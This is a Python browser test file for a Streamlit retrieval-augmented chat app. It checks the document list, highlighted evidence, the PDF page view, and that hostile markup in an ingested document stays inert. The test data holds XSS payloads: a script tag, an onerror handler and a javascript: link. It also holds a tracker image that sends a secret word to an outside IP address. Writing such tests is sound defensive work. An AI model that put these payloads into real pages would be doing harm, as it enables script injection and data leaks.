"""Issue 16 in a real browser: the first screen shows the chat with 20 documents, evidence is highlighted,
a PDF source opens a page view with the evidence drawn on the page, and hostile markup stays inert.

`make run`'s streamlit command serves app.py over a knowledge base of 20 documents (one a PDF made with
fpdf2, one a Markdown file full of script and tracking markup), ingested through the public API before
the server starts. Extractive answers (no language model) keep the run short and exact. Screenshots go
to test-artifacts/.
"""

from __future__ import annotations

import io
import time
import urllib.request
from pathlib import Path

import pytest
from test_ui_browser import ARTIFACTS, BROWSER_MARKS, ask, chromium, css, expand, streamlit_app, wait_for

pytestmark = BROWSER_MARKS

VIEWPORT = (1400, 1000)
LU_QUESTION = "How do I compute the LU factorization of a matrix?"
LU_EVIDENCE = "To compute the LU factorization of a matrix A, call [L, U, P] = lu (A)."
TRAP_QUESTION = "What is the secret word of the pelican club?"
TRAP = (
    "# Pelican club\n\nThe secret word of the pelican club is PELICAN-7. <script>window.__pwned = 1</script> "
    "<img src=x onerror=\"window.__pwned = 2\"> [click me](javascript:window.__pwned=3) "
    "![tracker](http://203.0.113.1/leak.png?q=PELICAN-7)\n"
)


def make_pdf(path: Path) -> None:
    from fpdf import FPDF

    pdf = FPDF(format="A4")
    pdf.set_font("helvetica", size=12)
    pdf.add_page()
    for text in (
        "Octave manual. Chapter 1: Linear algebra.",
        f"{LU_EVIDENCE} The lu function returns a lower triangular matrix L, an upper triangular "
        "matrix U and a permutation matrix P such that P*A = L*U. Other factorizations include chol and qr.",
    ):
        pdf.multi_cell(0, 6, text, new_x="LMARGIN", new_y="NEXT")
    pdf.add_page()
    pdf.multi_cell(0, 6, "Chapter 2: Plotting. Use plot (x, y) to draw lines.", new_x="LMARGIN", new_y="NEXT")
    pdf.output(str(path))


@pytest.fixture(scope="module")
def server(tmp_path_factory):
    """A knowledge base of 20 documents, then `make run`'s streamlit command over it (extractive answers)."""
    from rag import RAG, Settings

    tmp = tmp_path_factory.mktemp("ui-evidence")
    docs = tmp / "docs"
    docs.mkdir()
    files = []
    for i in range(18):
        note = docs / f"note-{i:02d}.md"
        note.write_text(f"# Note {i}\n\nField note number {i}: otter {i} ate {i * 7} fish by the river.\n")
        files.append(note)
    (docs / "pelican-club.md").write_text(TRAP, encoding="utf-8")
    make_pdf(docs / "octave-manual.pdf")
    files += [docs / "pelican-club.md", docs / "octave-manual.pdf"]
    with RAG(Settings(data_dir=str(tmp / "data"))) as rag:
        report = rag.ingest([str(f) for f in files])
        assert report.ok and len(rag.documents()) == 20, report.to_dict()

    with streamlit_app(tmp, HOPRAG_DATA_DIR=str(tmp / "data"), HOPRAG_ANSWER_MODE="extractive",
                       HOPRAG_TOP_K="3") as url:
        yield url


@pytest.fixture
def browser(tmp_path):
    """Headless chromium; open_app makes its viewport (not its window) 1400x1000."""
    driver = chromium(tmp_path / "chromium-profile", "--hide-scrollbars", size=VIEWPORT)
    yield driver
    driver.quit()


def open_app(driver, url: str) -> None:
    driver.get(url)
    chrome = driver.execute_script("return window.outerHeight - window.innerHeight")
    driver.set_window_size(VIEWPORT[0], VIEWPORT[1] + chrome)
    wait_for(driver, lambda d: d.execute_script("return [innerWidth, innerHeight]") == list(VIEWPORT),
             what="a 1400x1000 viewport")
    wait_for(driver, lambda d: "20 documents in" in d.find_element("tag name", "body").text, what="the document list")
    wait_for(driver, lambda d: css(d, "[data-testid='stChatInputTextArea']"), what="the chat input")


def rect(driver, element) -> dict:
    return driver.execute_script(
        "const r = arguments[0].getBoundingClientRect(); return {top: r.top, bottom: r.bottom, height: r.height};",
        element,
    )


def in_view(driver, element) -> bool:
    """The whole element is inside the window."""
    r = rect(driver, element)
    return r["height"] > 0 and r["top"] >= 0 and r["bottom"] <= driver.execute_script("return innerHeight")


def answered(driver, question: str):
    """The assistant message for ``question`` once the run has finished (its trace expander is drawn)."""

    def check(d):
        messages = css(d, "[data-testid='stChatMessage']")
        if len(messages) < 2 or question not in messages[-2].text or css(d, "[data-testid='stSpinner']"):
            return False
        return messages[-1] if "How this answer was found" in messages[-1].text else False

    return wait_for(driver, check, timeout=240, what=f"the answer to {question!r}")


def test_first_screen_shows_the_chat_with_20_documents(server, browser, tmp_path):
    driver = browser
    open_app(driver, server)
    time.sleep(1)  # let the page settle: Streamlit scrolls a chat page when it has drawn
    chat_input = css(driver, "[data-testid='stChatInput']")[0]
    chat_title = next(h for h in css(driver, "h3") if h.text.strip() == "Chat")
    first = tmp_path / "first-screen.png"
    driver.save_screenshot(str(first))
    assert in_view(driver, chat_input), rect(driver, chat_input)
    assert in_view(driver, chat_title), rect(driver, chat_title)
    # the document list scrolls inside its own box: the 20th document is there, below its fold
    assert "octave-manual.pdf" in css(driver, ".st-key-doc_list")[0].get_attribute("textContent")

    ask(driver, LU_QUESTION)
    answer = answered(driver, LU_QUESTION)
    time.sleep(1)
    shot = tmp_path / "first-answer.png"
    driver.save_screenshot(str(shot))
    ARTIFACTS.mkdir(exist_ok=True)
    for path in (first, shot):
        (ARTIFACTS / f"ui-20-docs-{path.name}").write_bytes(path.read_bytes())
    assert in_view(driver, css(driver, "[data-testid='stChatInput']")[0])
    # the conversation is on screen: the answer's first lines are visible above the pinned chat input
    r, input_top = rect(driver, answer), rect(driver, css(driver, "[data-testid='stChatInput']")[0])["top"]
    assert 0 <= r["top"] < input_top - 60, (r, input_top)


def test_pdf_source_opens_a_page_view_with_the_evidence(server, browser):
    from PIL import Image

    driver = browser
    open_app(driver, server)
    ask(driver, LU_QUESTION)
    answer = answered(driver, LU_QUESTION)
    # the evidence sentence is highlighted in the passage text
    # (the browser draws the message's parts as they arrive: wait for them, not just for the message)
    marks = wait_for(driver, lambda d: [" ".join(m.get_attribute("textContent").split()) for m in css(answer, "mark")],
                     timeout=30, what="highlighted evidence")
    assert LU_EVIDENCE in marks, marks

    def page_image(d):
        """Switch the page view on (again, if a rerun redrew the message before the click landed)."""
        images = css(d, "[data-testid='stChatMessage'] [data-testid='stImage'] img")
        if images:
            return images[0]
        messages = css(d, "[data-testid='stChatMessage']")
        toggle = next((t for t in css(messages[-1], "label") if t.text.strip() == "Page view"), None)
        if toggle is not None and not css(toggle, "input")[0].is_selected():
            toggle.click()
        return False

    image = wait_for(driver, page_image, timeout=90, what="the page view image")
    wait_for(driver, lambda d: d.execute_script("return arguments[0].complete && arguments[0].naturalWidth", image),
             timeout=60, what="the page image to load")
    assert image.get_attribute("alt") == "Page 1 of octave-manual.pdf, evidence highlighted"
    driver.execute_script("arguments[0].scrollIntoView({block: 'center'})", image)
    time.sleep(0.5)
    ARTIFACTS.mkdir(exist_ok=True)
    driver.save_screenshot(str(ARTIFACTS / "ui-page-view.png"))
    # the served picture is the page with the evidence boxed in the highlight colour
    with urllib.request.urlopen(image.get_attribute("src"), timeout=10) as resp:
        picture = Image.open(io.BytesIO(resp.read())).convert("RGB")
    colours = picture.getcolors(maxcolors=1 << 22)
    assert any(max(abs(a - b) for a, b in zip(c, (224, 108, 0))) < 24 for _, c in colours), "no evidence box drawn"


def test_hostile_document_markup_stays_inert(server, browser):
    driver = browser
    open_app(driver, server)
    ask(driver, TRAP_QUESTION)
    answer = answered(driver, TRAP_QUESTION)
    wait_for(driver, lambda d: "The secret word of the pelican club is PELICAN-7." in answer.text, timeout=30,
             what="the quoted answer")
    assert "<script>window.__pwned = 1</script>" in answer.text  # shown as the text it is
    for summary in css(answer, "[data-testid='stExpander'] summary"):
        expand(driver, summary)
    time.sleep(1)
    assert driver.execute_script("return window.__pwned") is None
    assert not [i for i in css(driver, "img") if "203.0.113" in (i.get_attribute("src") or "")]
    assert not [a for a in css(driver, "a") if (a.get_attribute("href") or "").lower().startswith("javascript")]
    assert not css(answer, "script") and not css(answer, "iframe")
